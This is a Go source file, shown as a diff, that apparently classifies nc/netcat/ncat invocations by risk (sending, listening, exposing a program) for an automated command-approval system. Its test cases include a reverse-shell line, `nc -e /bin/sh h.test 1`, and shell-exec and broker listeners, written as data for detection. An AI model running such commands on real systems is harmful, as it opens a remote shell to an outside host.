@@ -1,0 +1,39 @@
+package commands
+
+import "automode"
+
+var nc = Program{
+	Name: "nc", Also: "netcat ncat", Summary: "speaks to a port, or listens on one", Manual: "nc(1), netcat-openbsd 1.219, netcat-traditional 1.10 and macOS 15; ncat(1), Ncat 7.95",
+	Row: Row{
+		Help: "-h --help --version",
+		Args: []Arg{
+			{At: First, Role: Asks, When: When{With: "-z", Without: "-l"}},
+			{At: First, Role: Sends, When: When{Without: "-z -l"}, Why: "hands what it reads to a host"},
+			{At: Each, Role: Data},
+		},
+		Flags: []Flag{
+			{Names: "-z"},
+			{Names: "-l --listen", Does: []Do{{Kind: automode.Expose, Target: "a port"}}, Why: "listens for connections"},
+			{Names: "-4 -6 -b -C --crlf -D -d -F -k --keep-open -N -n --nodns -r -S -t --telnet -u --udp -U --unixsock -v --verbose --ssl --ssl-verify --no-shutdown --recv-only --send-only --sctp --append-output -a"},
+			{Names: "-i= --idle-timeout= --interval= -I= -M= -m= --max-conns= -O= -P= --proxy-auth= -p= --source-port= -q= -s= --source= -T= -V= -W= -w= --wait= -X= --proxy-type= --delay= --ssl-ciphers= --ssl-servername= --ssl-alpn= --proxy-dns= -G= -g= -B= --allow= --deny=", Value: Data},
+			{Names: "-o= --output= -x= --hex-dump=", Value: Unread, Why: "is a file that it writes, or a proxy"},
+			{Names: "--proxy=", Value: Sends, Why: "goes through a proxy"},
+			{Names: "--ssl-cert= --ssl-key= --ssl-trustfile= --allowfile= --denyfile=", Value: Reads},
+			{Names: "-e= --exec=", Value: RunsLine, Does: []Do{{Kind: automode.Expose, Traits: automode.Tunnel, Target: "a program of this machine"}}, Why: "hands a program of this machine to the other side"},
+			{Names: "-c= --sh-exec= --lua-exec=", Value: RunsLine, Does: []Do{{Kind: automode.Expose, Traits: automode.Tunnel, Target: "a program of this machine"}}, Why: "hands a program of this machine to the other side"},
+			{Names: "--broker --chat", Does: []Do{{Kind: automode.Expose, Traits: automode.Tunnel, Target: "a relay"}}, Why: "joins those who connect"},
+		},
+		Stdin: []In{{Role: Data}},
+	},
+	Cases: []Case{
+		{`nc -zv h.test 80`, `Query h.test`},
+		{`nc -w 3 h.test 80`, `Send h.test`},
+		{`nc -z localhost 5432`, `Query localhost`},
+		{`nc -lk 9000`, `Expose a port`},
+		{`nc -e /bin/sh h.test 1`, `Send h.test; Expose{tunnel} a program of this machine; Run[line] /bin/sh`},
+		{`ncat --sh-exec 'cat' -l 1`, `Expose{tunnel} a program of this machine; Run[line] cat; Expose a port`},
+		{`ncat --broker -l 1`, `Expose{tunnel} a relay; Expose a port`},
+		{`ncat --proxy p.test --ssl-cert c h.test 1`, `Send h.test; Send p.test; Read c`},
+		{`nc -x p h.test 1`, `Send h.test; Unknown is a file that it writes, or a proxy`},
+	},
+}
